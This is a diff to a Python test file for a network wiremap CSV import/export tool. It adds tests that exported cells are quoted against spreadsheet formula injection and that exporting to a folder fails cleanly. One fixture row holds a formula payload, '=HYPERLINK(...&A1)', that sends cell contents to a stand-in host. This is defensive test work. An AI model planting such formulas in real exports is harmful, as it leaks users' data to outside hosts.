@@ -4,6 +4,7 @@ idempotent), export, and the round trip; the ``dlr-gateway network`` commands.""
 from __future__ import annotations
 
 import asyncio
+import csv
 import io
 from pathlib import Path
 
@@ -82,6 +83,32 @@ def test_importing_twice_changes_nothing() -> None:
         assert again.applied is not None
         assert (again.applied.created, again.applied.updated, again.applied.unchanged) == (0, 0, 3)
         assert held.version == version
+
+    run(main_())
+
+
+def test_exported_cells_never_run_as_formulas_and_round_trip() -> None:
+    """Free text (a description, a chassis or port ID) a spreadsheet would run as a formula
+    is exported behind a quote, and importing the export gives back the same wiremap."""
+    hostile = (
+        f"{HEADER}\n"
+        f',,-SW-2,@port,,"=HYPERLINK(""http://x.example/?""&A1)",{WH},FL 3\n'
+        f",,+SW-3,,,''=quoted,{WH},FL 4\n"  # a value that starts with a quote
+    )
+
+    async def main_() -> None:
+        first = wiremap()
+        assert (await import_csv(first, hostile.encode())).errors == []
+        assert {(e.key, e.port_id, e.description) for e in first.entries()} == {
+            ("-SW-2", "@port", '=HYPERLINK("http://x.example/?"&A1)'),
+            ("+SW-3", None, "'=quoted"),
+        }
+        exported = write(first.entries())
+        for row in csv.reader(io.StringIO(exported)):
+            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
+        second = wiremap()
+        assert (await import_csv(second, exported.encode())).errors == []
+        assert second.entries() == first.entries()
 
     run(main_())
 
@@ -207,6 +234,10 @@ def test_the_commands(
     err = capsys.readouterr().err
     assert "line 2: Subnet:" in err and "nothing written" in err
     assert main(["network", "import", str(tmp_path / "missing.csv")]) == 2
+    capsys.readouterr()
+    assert main(["network", "export", "--output", str(tmp_path)]) == 2  # a folder
+    err = capsys.readouterr().err
+    assert err.startswith(f"dlr-gateway: {tmp_path}: ") and "Traceback" not in err
 
 
 def test_progress_is_plain_lines_off_a_terminal() -> None:
